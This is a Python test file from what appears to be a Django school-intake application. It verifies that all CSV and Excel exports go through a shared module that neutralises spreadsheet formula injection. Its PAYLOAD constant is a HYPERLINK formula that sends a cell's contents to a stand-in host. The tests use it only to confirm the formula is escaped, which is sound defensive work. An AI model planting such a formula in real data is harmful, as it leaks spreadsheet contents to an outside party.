"""Every export goes through `lib.spreadsheet`: the source holds no other CSV or Excel writer, and the
exports neutralise a formula planted in the data (the plans' declaration and the privacy registers are
checked by their own tests: plans/tests/test_export.py, privacy/tests/test_incidents.py)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.urls import reverse

from intake import actions
from privacy.export import to_csv

ROOT = Path(__file__).resolve().parents[2]
WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|write_csv\(|write_excel\(")
ALLOWED = {"lib/spreadsheet.py"}
PAYLOAD = '=HYPERLINK("http://x.example/?d="&A1,"Voir")'


def source_files() -> list[Path]:
    skip = {".venv", "node_modules", "static", "var", "tests", "migrations", "bench", "staticfiles"}
    return [p for p in ROOT.rglob("*.py") if not skip & set(p.relative_to(ROOT).parts)]


def test_no_export_writes_csv_or_excel_but_through_lib_spreadsheet():
    files = source_files()
    assert len(files) > 100, "the walk over the sources is broken"
    offenders = [
        str(path.relative_to(ROOT))
        for path in files
        if str(path.relative_to(ROOT)) not in ALLOWED and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert not offenders, (
        "Ces modules écrivent un tableur sans lib.spreadsheet (injection de formules) : "
        + ", ".join(offenders)
        + ". Utiliser lib.spreadsheet.csv_writer(out) (ou neutralise_cell pour chaque cellule)."
    )


def test_the_request_export_neutralises_a_formula_planted_in_a_name(client, cast, psychology, request_data):
    cast.alice.last_name = PAYLOAD
    cast.alice.save()
    actions.file_request(cast.teacher, cast.alice, [psychology], request_data)
    client.force_login(cast.coordinator)
    body = client.get(reverse("intake:export")).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert any(PAYLOAD in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@"))]


def test_the_registers_neutralise_header_and_cells():
    text = to_csv([PAYLOAD], [[PAYLOAD, "-1", "ok"]]).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["'" + PAYLOAD], ["'" + PAYLOAD, "'-1", "ok"]]
